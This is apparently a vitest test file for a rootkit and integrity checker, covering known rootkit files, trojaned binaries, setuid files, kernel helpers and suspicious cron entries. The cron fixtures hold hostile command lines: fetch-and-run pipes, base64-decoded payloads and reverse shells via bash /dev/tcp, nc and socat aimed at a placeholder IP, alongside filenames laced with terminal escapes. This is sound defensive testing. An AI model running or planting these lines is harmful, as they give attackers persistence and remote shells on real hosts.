import { chmodSync, mkdirSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { printable } from "../../../src/core/printable.ts";
import { suspiciousCron } from "../../../src/integrity/rootcheck/checks/cron.ts";
import { devices } from "../../../src/integrity/rootcheck/checks/devices.ts";
import { kernelHelpers } from "../../../src/integrity/rootcheck/checks/kernel-helpers.ts";
import { knownRootkitFiles } from "../../../src/integrity/rootcheck/checks/known-files.ts";
import { systemFiles } from "../../../src/integrity/rootcheck/checks/system-files.ts";
import { trojans } from "../../../src/integrity/rootcheck/checks/trojans.ts";
import { runChecks } from "../../../src/integrity/rootcheck/rootcheck.ts";
import { scratchGround, silent } from "./ground.ts";

/** Names that somebody chose to do harm where they are shown. */
const hostile = "a\n\xe2\x80\xae\x1b[2J\xff'b";
const shown = "a\\x0a\\u202e\\x1b[2J\\xff'b";

describe("files of known rootkits", () => {
  test("W33: one that is cleaned and comes back is told again", async () => {
    const { folder, ground, put } = scratchGround();
    let before: readonly string[] = [];
    const told = async () => {
      const { standing, fresh } = await runChecks(ground, new Set(before), silent);
      before = standing.map(({ key }) => key);
      return fresh.map(({ key }) => key);
    };
    put("etc/kinsing", "");
    expect([await told(), await told()]).toEqual([["rootkit /etc/kinsing"], []]);
    rmSync(join(folder, "etc/kinsing"));
    expect(await told()).toEqual([]);
    put("etc/kinsing", "");
    expect(await told()).toEqual(["rootkit /etc/kinsing"]);
  });

  test("one is told by its path, and not where a package owns it", async () => {
    const { ground, owned, put } = scratchGround();
    put("dev/shm/ldx/.l", "");
    put("lib/libselinux.so", "");
    owned.set("/lib/libselinux.so", "libselinux1-dev");
    expect(await knownRootkitFiles(ground)).toEqual([
      {
        key: "rootkit /dev/shm/ldx",
        text: "Rootkit 'OrBit' detected by the presence of file '/dev/shm/ldx'.",
        kind: "rootkit",
        file: "/dev/shm/ldx",
      },
    ]);
  });

  test("a link that leads nowhere is there, too", async () => {
    const { ground, folder } = scratchGround();
    mkdirSync(join(folder, "etc"));
    symlinkSync("/nowhere", join(folder, "etc/ttyhash"));
    expect(await knownRootkitFiles(ground)).toHaveLength(1);
  });

  test("one that is known by its name is found in any folder that is looked into", async () => {
    const { ground, put } = scratchGround();
    put("opt/x/libprocesshider.so", "");
    put("usr/local/lib/libprocesshider.so", "");
    const signs = await systemFiles(ground);
    expect(signs.map(({ file }) => file).toSorted()).toEqual([
      "/opt/x/libprocesshider.so",
      "/usr/local/lib/libprocesshider.so",
    ]);
  });
});

describe("trojans", () => {
  const trojan = "\x7fELF\0\0/bin/true\0/dev/ptyr\0more";

  test("what is as its package recorded is none, whatever it holds", async () => {
    const { ground, put, verified } = scratchGround();
    put("usr/bin/ls", trojan);
    verified.set("/usr/bin/ls", { package: "coreutils", content: "recorded" });
    expect(await trojans(ground)).toEqual([]);
  });

  test("what is not is told, as a trojan where it holds what trojans hold", async () => {
    const { ground, put, verified } = scratchGround();
    put("usr/bin/ls", trojan);
    put("usr/bin/ps", "\x7fELF\0\0harmless\0");
    verified.set("/usr/bin/ls", { package: "coreutils", content: "differs" });
    verified.set("/usr/bin/ps", { package: "procps", content: "differs" });
    const signs = await trojans(ground);
    expect(signs.map(({ kind, text }) => [kind, text])).toEqual([
      [
        "rootkit",
        "Trojaned version of file '/usr/bin/ls' detected. Signature used: '^/dev/pty[pqrs]$' (lists of what to hide, as of lrk).",
      ],
      ["differs", "File '/usr/bin/ps' is not what its package procps recorded."],
    ]);
  });

  test("a program of no package is told by what it holds alone; by two names it is one", async () => {
    const { ground, folder, put } = scratchGround();
    put("usr/bin/top", trojan);
    put("usr/bin/w", "an admin's own\0/bin/true");
    symlinkSync("usr/bin", join(folder, "bin"));
    expect((await trojans(ground)).map(({ file }) => file)).toEqual(["/usr/bin/top"]);
  });

  test("a library is asked for in the folder of the machine's kind", async () => {
    const { ground, put, verified } = scratchGround();
    put("usr/lib/x86_64-linux-gnu/libkeyutils.so.1", "x");
    verified.set("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1", {
      package: "libkeyutils1:amd64",
      content: "differs",
    });
    expect((await trojans(ground)).map(({ kind }) => kind)).toEqual(["differs"]);
  });

  test("a sign of the admin's names a file by its path", async () => {
    const file = scratchGround();
    file.put("signs", "/etc/hosts !^[^#]*update\\.example!A vendor is kept away\n");
    const { ground, put } = scratchGround({ rootkitTrojans: [join(file.folder, "signs")] });
    put("etc/hosts", "# update.example\n127.0.0.1 update.example\n");
    const [sign] = await trojans(ground);
    expect(sign?.text).toContain("Trojaned version of file '/etc/hosts'");
    expect(sign?.text).toContain("(A vendor is kept away)");
  });
});

describe("files that give rights, or that everybody may write", () => {
  test("setuid and setgid files of no package, wherever they are; names as bytes", async () => {
    const { ground, owned, put } = scratchGround();
    put(`var/tmp/${hostile}`, "", 0o4755);
    put("opt/x/tool", "", 0o2755);
    put("opt/x/locked", "", 0o2644);
    put("usr/lib/dbus/helper", "", 0o4754);
    owned.set("/usr/lib/dbus/helper", "dbus");
    const signs = await systemFiles(ground);
    expect(signs.map(({ kind }) => kind)).toEqual(["privileged", "privileged"]);
    const texts = signs.map(({ text }) => text).toSorted();
    expect(texts[0]).toBe(
      "File '/opt/x/tool' of no package is setgid: who runs it gets more rights.",
    );
    expect(texts[1]).toContain(`File '/var/tmp/${shown}' of no package is setuid `);
  });

  test("a path of four kilobytes is shown by its ends", async () => {
    const { folder, ground, put } = scratchGround();
    const long = Array.from({ length: 15 }, (_, n) => `${n}${"x".repeat(240)}`).join("/");
    expect(folder.length + long.length).toBeGreaterThan(3600);
    put(`opt/${long}/tool`, "", 0o4755);
    const [sign] = await systemFiles(ground);
    expect(sign?.text.length).toBeLessThan(700);
    expect(sign?.text).toMatch(/\/opt\/0xxx.*…\(\d+ characters\)….*xxx\/tool'/);
  });

  test("folders that the baseline has are not walked: what it knows counts", async () => {
    const { ground, put, rows } = scratchGround();
    put("usr/bin/on-disk-only", "", 0o4755);
    put("usr/lib/deep/walked", "", 0o4755);
    const stamp = `${0o104755} 0 0 1 1 1 1 1`;
    rows.push({ path: "/usr/bin", stamp: `${0o40755} 0 0 1 1 1 1 1`, isRead: false });
    rows.push({ path: "/usr/bin/known", stamp, isRead: true });
    const signs = await systemFiles(ground);
    expect(signs.map(({ file }) => file).toSorted()).toEqual([
      "/usr/bin/known",
      "/usr/lib/deep/walked",
    ]);
  });

  test("what everybody may write in places of programs and settings, not in others", async () => {
    const { folder, ground, put } = scratchGround();
    put("etc/sudoers", "", 0o666);
    put("srv/www/upload", "", 0o666);
    mkdirSync(join(folder, "etc/open"));
    chmodSync(join(folder, "etc/open"), 0o777);
    mkdirSync(join(folder, "etc/sticky"));
    chmodSync(join(folder, "etc/sticky"), 0o1777);
    const signs = await systemFiles(ground);
    expect(signs.map(({ kind, file }) => [kind, file]).toSorted()).toEqual([
      ["suspicious", "/etc/open"],
      ["suspicious", "/etc/sudoers"],
    ]);
    expect(signs.find(({ file }) => file === "/etc/sudoers")?.text).toMatch(
      /^File '\/etc\/sudoers' is owned by \w+ and has write permissions to anyone\.$/,
    );
  });

  test("what the admin leaves out, and the systems of containers", async () => {
    const { ground, put } = scratchGround({
      scanAll: true,
      ignore: [
        { kind: "prefix", pattern: "/OPT/known" },
        { kind: "sregex", pattern: ".img$" },
      ],
    });
    for (const name of [
      "opt/known/x",
      "opt/a.img",
      "var/lib/docker/overlay2/1/su",
      "var/cache/y",
    ]) {
      put(name, "", 0o4755);
    }
    expect((await systemFiles(ground)).map(({ file }) => file)).toEqual(["/var/cache/y"]);
  });

  test("of many the first twenty, and how many more", async () => {
    const { ground, put } = scratchGround();
    for (let n = 0; n < 30; n++) put(`opt/f${n}`, "", 0o4755);
    const signs = await systemFiles(ground);
    expect(signs).toHaveLength(21);
    expect(signs.at(-1)?.text).toMatch(/^10 more such files/);
  });
});

describe("cron", () => {
  test.each([
    ["fetches something and runs it", "*/5 * * * * root curl -fsSL http://192.0.2.1/a.sh | bash"],
    ["fetches something and runs it", "* * * * * (wget -qO- http://192.0.2.1/a||x)|sh"],
    ["fetches something and runs it", '* * * * * root bash -c "$(curl -s http://192.0.2.1/a)"'],
    ["fetches something and runs it", "* * * * * root bash <(curl -s http://192.0.2.1/a)"],
    ["fetches something and runs it", "@daily wget -O /tmp/x http://192.0.2.1/x; chmod +x /tmp/x"],
    ["decodes something and runs it", "@reboot root echo aGk= | base64 -d | sh"],
    [
      "decodes something and runs it",
      "1 2 * * * python3 -c \"exec(__import__('base64').b64decode('aGk='))\"",
    ],
    ["opens a shell to somewhere else", "* * * * * root bash -i >& /dev/tcp/192.0.2.1/44 0>&1"],
    ["opens a shell to somewhere else", "* * * * * root nc -e /bin/sh 192.0.2.1 44"],
    ["opens a shell to somewhere else", "* * * * * socat TCP:192.0.2.1:44 EXEC:/bin/sh,pty"],
    ["runs what lies in a folder that everybody may write", "* * * * * root /tmp/.x"],
    ["runs what lies in a folder that everybody may write", "@reboot /dev/shm/k"],
    ["runs what lies in a folder that everybody may write", "0 0 * * * nohup /var/tmp/m &"],
    ["runs what lies in a folder that everybody may write", "0 0 * * * root sh /tmp/x.sh"],
  ])("%s: %s", async (does, line) => {
    const { ground, put } = scratchGround();
    put("etc/cron.d/x", `# a comment: curl x | sh\nPATH=/bin\n${line}\n`);
    const [sign] = await suspiciousCron(ground);
    expect(sign?.text).toBe(`Cron ${does}: '/etc/cron.d/x', line 3: ${line}`);
    expect(sign?.kind).toBe("cron");
  });

  test.each([
    "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
    "*/5 * * * * root test -x /usr/sbin/backup && /usr/sbin/backup > /tmp/backup.log 2>&1",
    "0 3 * * * curl -fsS -m 10 https://hc.example/ping > /dev/null",
    "0 3 * * * root mysqldump db | gzip > /var/backups/db.gz",
    "5 4 * * * root find /tmp -mtime +7 -delete",
    "5 4 * * * root [ -d /tmp/x ] && rm -rf /tmp/x",
    "@reboot root /usr/bin/python3 /opt/app/run.py",
    "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1",
  ])("is left alone: %s", async (line) => {
    const { ground, put } = scratchGround();
    put("etc/crontab", `${line}\n`);
    put("var/spool/cron/crontabs/user", `${line}\n`);
    expect(await suspiciousCron(ground)).toEqual([]);
  });

  test("what a package recorded is left alone, also in scripts", async () => {
    const { ground, put, verified } = scratchGround();
    put("etc/cron.daily/own", "#!/bin/sh\ncurl -s https://example.com/a | sh\n");
    put("etc/cron.daily/theirs", "#!/bin/sh\ncurl -s https://example.com/a | sh\n");
    verified.set("/etc/cron.daily/theirs", { package: "vendor", content: "recorded" });
    expect((await suspiciousCron(ground)).map(({ file }) => file)).toEqual(["/etc/cron.daily/own"]);
  });

  test("a line is bounded and printable, and links are not followed", async () => {
    const { folder, ground, put } = scratchGround();
    put(
      `etc/cron.d/${hostile.replaceAll("/", "")}`,
      `* * * * * root /tmp/\x1b]0;\x07${"x".repeat(5000)}\n`,
    );
    put("secret", "* * * * * root /tmp/x\n");
    symlinkSync(join(folder, "secret"), join(folder, "etc/cron.d/link"));
    const signs = await suspiciousCron(ground);
    expect(signs).toHaveLength(1);
    expect(signs[0]?.text).toContain(shown);
    expect(signs[0]?.text).toBe(printable(signs[0]?.text ?? ""));
    expect(signs[0]?.text.length).toBeLessThan(500);
  });
});

test("what the kernel runs as root by itself is a package's", async () => {
  const { ground, owned, put } = scratchGround();
  put("proc/sys/kernel/core_pattern", "|/tmp/x %p\n");
  put("proc/sys/kernel/modprobe", "/sbin/modprobe\n");
  owned.set("/sbin/modprobe", "kmod");
  expect((await kernelHelpers(ground)).map(({ text }) => text)).toEqual([
    "Program '/tmp/x' of no package is run by the kernel when a program crashes (kernel.core_pattern).",
  ]);
  put("proc/sys/kernel/core_pattern", "core\n");
  expect(await kernelHelpers(ground)).toEqual([]);
});

test("in /dev, too, what the admin leaves out is left out, in either case", async () => {
  const { ground, put } = scratchGround({
    ignore: [
      { kind: "prefix", pattern: "/DEV/known" },
      { kind: "sregex", pattern: "^/dev/shm/own$" },
    ],
  });
  for (const name of ["dev/known", "dev/shm/own/x", "dev/other"]) put(name, "");
  expect((await devices(ground)).map(({ file }) => file)).toEqual(["/dev/other"]);
});
